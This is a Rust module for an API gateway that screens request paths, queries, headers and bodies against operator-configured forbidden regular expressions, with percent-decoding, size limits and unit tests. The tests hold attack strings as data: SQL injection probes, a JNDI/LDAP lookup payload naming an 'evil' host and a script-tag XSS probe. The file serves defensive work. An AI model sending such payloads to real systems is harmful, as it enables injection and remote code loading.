//! Regular-expression protection (seed 004's defence against injection threats; Apigee's
//! `RegularExpressionProtection`): compiles the operator's forbidden patterns and matches them
//! against the path, the query string, each header and the body.
//!
//! # Design notes
//!
//! * The `regex` crate matches in time linear in the input (finite automata, no backtracking), so
//!   no configured pattern can cause catastrophic backtracking (ReDoS). What a pattern *can* do is
//!   compile to a huge automaton — `(a{1000}){1000}` — so compilation is capped by `size_limit`
//!   and the lazy DFA's cache by `dfa_size_limit` ([`REGEX_SIZE_LIMIT`] each).
//! * Attackers encode: the path is matched raw and percent-decoded, the query raw and form-decoded
//!   (`%XX` and `+`), so `%27%20OR%201=1` is caught by a pattern written for `' OR 1=1`.
//! * A pattern can only match the whole body, not chunk by chunk (a match may straddle chunks), so
//!   the body is accumulated — but only when body patterns exist, and at most `max_body_bytes`, or
//!   [`BODY_INSPECTION_CAP`] when that is unset. A larger body is refused rather than let through
//!   uninspected, or padding would bypass every body pattern.
//! * Messages name the pattern and the part of the request, never the matched text.

use std::sync::Arc;

use regex::{Regex, RegexBuilder};

use super::{hex_digit, PatternConfig, Target, Violation, ViolationKind};

/// Cap on a pattern's compiled program and on its lazy-DFA cache (each).
pub const REGEX_SIZE_LIMIT: usize = 1 << 20;

/// Most body bytes buffered for body patterns when the route sets no `max_body_bytes`.
pub const BODY_INSPECTION_CAP: usize = 1 << 20;

#[derive(Debug, Clone)]
struct Compiled {
    name: String,
    regex: Regex,
}

/// The compiled patterns, sorted by where they apply.
#[derive(Debug)]
pub(super) struct Patterns {
    path: Vec<Compiled>,
    query: Vec<Compiled>,
    headers: Vec<Compiled>,
    /// Shared with every [`BodyMatcher`] without copying.
    body: Arc<[Compiled]>,
}

impl Patterns {
    pub(super) fn compile(cfgs: &[PatternConfig]) -> Result<Self, String> {
        let (mut path, mut query, mut headers, mut body) = (vec![], vec![], vec![], vec![]);
        for (i, cfg) in cfgs.iter().enumerate() {
            if cfg.name.trim().is_empty() {
                return Err(format!("patterns[{i}].name: must not be empty"));
            }
            if cfg.on.is_empty() {
                return Err(format!(
                    "patterns[{i}].on: name at least one of path, query, headers, body"
                ));
            }
            let regex = RegexBuilder::new(&cfg.pattern)
                .size_limit(REGEX_SIZE_LIMIT)
                .dfa_size_limit(REGEX_SIZE_LIMIT)
                .build()
                .map_err(|e| format!("patterns[{i}].pattern: {}", describe(&e)))?;
            let compiled = Compiled {
                name: cfg.name.clone(),
                regex,
            };
            for target in [Target::Path, Target::Query, Target::Headers, Target::Body] {
                if cfg.on.contains(&target) {
                    let list = match target {
                        Target::Path => &mut path,
                        Target::Query => &mut query,
                        Target::Headers => &mut headers,
                        Target::Body => &mut body,
                    };
                    list.push(compiled.clone());
                }
            }
        }
        let body = Arc::from(body);
        Ok(Self {
            path,
            query,
            headers,
            body,
        })
    }

    pub(super) fn has_body(&self) -> bool {
        !self.body.is_empty()
    }

    pub(super) fn check_path(&self, path: &str) -> Result<(), Violation> {
        if self.path.is_empty() {
            return Ok(());
        }
        check(&self.path, path, "path")?;
        match percent_decode(path, false) {
            Some(decoded) => check(&self.path, &decoded, "path"),
            None => Ok(()),
        }
    }

    pub(super) fn check_query(&self, query: &str) -> Result<(), Violation> {
        if self.query.is_empty() {
            return Ok(());
        }
        check(&self.query, query, "query")?;
        match percent_decode(query, true) {
            Some(decoded) => check(&self.query, &decoded, "query"),
            None => Ok(()),
        }
    }

    /// Matches `name: value`, built in `scratch` so that headers reuse one allocation.
    pub(super) fn check_header(
        &self,
        name: &str,
        value: &[u8],
        scratch: &mut String,
    ) -> Result<(), Violation> {
        if self.headers.is_empty() {
            return Ok(());
        }
        scratch.clear();
        scratch.push_str(name);
        scratch.push_str(": ");
        scratch.push_str(&String::from_utf8_lossy(value));
        check(&self.headers, scratch, "headers")
    }

    /// The body accumulator, when body patterns exist; it holds at most `max_body_bytes`, or
    /// [`BODY_INSPECTION_CAP`] when that is unset.
    /// `form`: the body is `application/x-www-form-urlencoded`, matched decoded too.
    pub(super) fn body_matcher(
        &self,
        max_body_bytes: Option<usize>,
        form: bool,
    ) -> Option<BodyMatcher> {
        self.has_body().then(|| BodyMatcher {
            patterns: Arc::clone(&self.body),
            buf: Vec::new(),
            cap: max_body_bytes.unwrap_or(BODY_INSPECTION_CAP),
            form,
        })
    }
}

/// Accumulates one request body for the body patterns.
#[derive(Debug)]
pub(super) struct BodyMatcher {
    patterns: Arc<[Compiled]>,
    buf: Vec<u8>,
    cap: usize,
    form: bool,
}

impl BodyMatcher {
    pub(super) fn cap(&self) -> usize {
        self.cap
    }

    pub(super) fn push(&mut self, chunk: &[u8]) -> Result<(), Violation> {
        if self.buf.len().saturating_add(chunk.len()) > self.cap {
            return Err(inspection_cap_exceeded(self.cap));
        }
        self.buf.extend_from_slice(chunk);
        Ok(())
    }

    /// Matches the whole body, as lossy UTF-8 and, for a form, form-decoded (`%XX` and `+`)
    /// as the backend's form parser will read it.
    pub(super) fn finish(self) -> Result<(), Violation> {
        let text = String::from_utf8_lossy(&self.buf);
        check(&self.patterns, &text, "body")?;
        match percent_decode(&text, true).filter(|_| self.form) {
            Some(decoded) => check(&self.patterns, &decoded, "body"),
            None => Ok(()),
        }
    }
}

pub(super) fn inspection_cap_exceeded(cap: usize) -> Violation {
    Violation::new(
        ViolationKind::BodyTooLarge,
        format!("request body exceeds the {cap}-byte limit for pattern inspection"),
    )
}

fn check(patterns: &[Compiled], text: &str, part: &str) -> Result<(), Violation> {
    match patterns.iter().find(|p| p.regex.is_match(text)) {
        Some(p) => Err(Violation::new(
            ViolationKind::Pattern,
            format!("pattern '{}' matched in {part}", p.name),
        )),
        None => Ok(()),
    }
}

fn describe(e: &regex::Error) -> String {
    match e {
        regex::Error::CompiledTooBig(limit) if limit % (1 << 20) == 0 => {
            format!("regex too large (size limit {} MiB)", limit >> 20)
        }
        regex::Error::CompiledTooBig(limit) => {
            format!("regex too large (size limit {limit} bytes)")
        }
        other => format!("invalid regex: {other}"),
    }
}

/// Decodes `%XX` (and `+` as a space when `plus_as_space`), as lossy UTF-8; `None` when there is
/// nothing to decode. A `%` not followed by two hex digits stays as it is.
fn percent_decode(s: &str, plus_as_space: bool) -> Option<String> {
    let bytes = s.as_bytes();
    if !bytes
        .iter()
        .any(|&b| b == b'%' || (plus_as_space && b == b'+'))
    {
        return None;
    }
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        let hex = |at: usize| bytes.get(at).copied().and_then(hex_digit);
        match (b, hex(i + 1), hex(i + 2)) {
            (b'%', Some(high), Some(low)) => {
                out.push(high << 4 | low);
                i += 3;
                continue;
            }
            (b'+', _, _) if plus_as_space => out.push(b' '),
            _ => out.push(b),
        }
        i += 1;
    }
    Some(String::from_utf8_lossy(&out).into_owned())
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn pattern(name: &str, pattern: &str, on: &[Target]) -> PatternConfig {
        PatternConfig {
            name: name.into(),
            pattern: pattern.into(),
            on: on.to_vec(),
        }
    }

    fn sql() -> Patterns {
        let sqli = r"(?i)'\s*or\s+\d+\s*=\s*\d+";
        Patterns::compile(&[pattern(
            "sql-injection",
            sqli,
            &[Target::Path, Target::Query],
        )])
        .unwrap()
    }

    #[test]
    fn percent_encoded_path_is_decoded_before_matching() {
        let p = sql();
        let err = p.check_path("/users/%27%20OR%201=1").unwrap_err();
        assert_eq!(err.kind, ViolationKind::Pattern);
        assert_eq!(err.message, "pattern 'sql-injection' matched in path");
        assert!(p.check_path("/users/' or 1=1").is_err(), "raw form");
        assert!(p.check_path("/users/o%27brien").is_ok());
        // In a path `+` is a literal plus, not a space.
        assert!(p.check_path("/users/'+OR+1=1").is_ok());
    }

    #[test]
    fn query_is_matched_raw_and_form_decoded() {
        let p = sql();
        assert!(
            p.check_query("name=x'+OR+1=1").is_err(),
            "'+' is a space in a query"
        );
        assert!(p.check_query("name=x%27%20or%202%3D2").is_err());
        assert!(p.check_query("name=x' OR 3=3").is_err(), "raw");
        let err = p.check_query("q=%27%20OR%201=1").unwrap_err();
        assert_eq!(err.message, "pattern 'sql-injection' matched in query");
        assert!(p.check_query("name=o%27brien&page=1").is_ok());
        assert!(p.check_query("").is_ok());
    }

    #[test]
    fn raw_text_matches_even_when_decoding_would_hide_it() {
        let p = Patterns::compile(&[pattern("encoded-quote", "%27", &[Target::Query])]).unwrap();
        assert!(p.check_query("a=%27").is_err());
    }

    #[test]
    fn headers_are_matched_as_name_colon_value_without_echoing_them() {
        let p = Patterns::compile(&[pattern(
            "no-jndi",
            r"(?i)^x-api-version: .*\$\{jndi:",
            &[Target::Headers],
        )])
        .unwrap();
        let mut scratch = String::new();
        let err = p
            .check_header("x-api-version", b"${jndi:ldap://evil/a}", &mut scratch)
            .unwrap_err();
        assert_eq!(err.message, "pattern 'no-jndi' matched in headers");
        assert!(!err.message.contains("ldap"));
        assert!(p
            .check_header("user-agent", b"${jndi:ldap://x}", &mut scratch)
            .is_ok());
        assert!(p
            .check_header("x-api-version", b"\xff\xfe2", &mut scratch)
            .is_ok());
        // Header patterns do not look at the path.
        assert!(p.check_path("/${jndi:").is_ok());
    }

    #[test]
    fn body_matches_across_chunks_on_lossy_utf8() {
        let p = Patterns::compile(&[pattern("script", "(?i)<script", &[Target::Body])]).unwrap();
        let mut m = p.body_matcher(None, false).unwrap();
        assert_eq!(m.cap(), BODY_INSPECTION_CAP);
        for chunk in [&b"\xff\xfe hello <scr"[..], b"IPT>alert(1)"] {
            m.push(chunk).unwrap();
        }
        let err = m.finish().unwrap_err();
        assert_eq!(err.message, "pattern 'script' matched in body");
        let mut m = p.body_matcher(Some(8), false).unwrap();
        m.push(b"harmless").unwrap();
        assert!(m.finish().is_ok());
    }

    #[test]
    fn form_bodies_are_matched_decoded_too() {
        let p = Patterns::compile(&[pattern("sqli", r"'\s*or\s+1=1", &[Target::Body])]).unwrap();
        let body = b"name=x%27+or+1%3D1&page=2";
        let mut m = p.body_matcher(None, true).unwrap();
        m.push(body).unwrap();
        assert_eq!(m.finish().unwrap_err().kind, ViolationKind::Pattern);
        let mut m = p.body_matcher(None, false).unwrap();
        m.push(body).unwrap();
        assert!(m.finish().is_ok(), "not a form: matched as it is");
    }

    #[test]
    fn body_beyond_the_inspection_cap_is_refused() {
        let p = Patterns::compile(&[pattern("script", "<script", &[Target::Body])]).unwrap();
        let mut m = p.body_matcher(Some(10), false).unwrap();
        m.push(b"0123456789").unwrap();
        assert_eq!(m.push(b"x").unwrap_err().kind, ViolationKind::BodyTooLarge);
        assert!(
            sql().body_matcher(None, false).is_none(),
            "no body patterns, no buffering"
        );
    }

    #[test]
    fn compile_errors_name_the_key() {
        let ok = pattern("fine", "a+", &[Target::Body]);
        let cfgs = [
            ok.clone(),
            ok.clone(),
            pattern("broken", "(unclosed", &[Target::Query]),
        ];
        let err = Patterns::compile(&cfgs).unwrap_err();
        assert!(
            err.starts_with("patterns[2].pattern: invalid regex"),
            "{err}"
        );
        let err = Patterns::compile(&[ok.clone(), pattern("x", "a", &[])]).unwrap_err();
        assert!(err.starts_with("patterns[1].on:"), "{err}");
        let err = Patterns::compile(&[pattern(" ", "a", &[Target::Path])]).unwrap_err();
        assert!(err.starts_with("patterns[0].name:"), "{err}");
    }

    #[test]
    fn huge_patterns_are_refused_by_the_size_limit() {
        let cfgs = [pattern("bomb", "(a{1000}){1000}", &[Target::Body])];
        let err = Patterns::compile(&cfgs).unwrap_err();
        assert_eq!(
            err,
            "patterns[0].pattern: regex too large (size limit 1 MiB)"
        );
    }

    #[test]
    fn percent_decoding_keeps_stray_percent_signs() {
        assert_eq!(percent_decode("100%", false).unwrap(), "100%");
        assert_eq!(percent_decode("%zz%4", false).unwrap(), "%zz%4");
        assert_eq!(percent_decode("a+b%2B", true).unwrap(), "a b+");
        assert_eq!(percent_decode("a+b", false), None);
        assert_eq!(percent_decode("%ff", false).unwrap(), "\u{fffd}");
    }
}
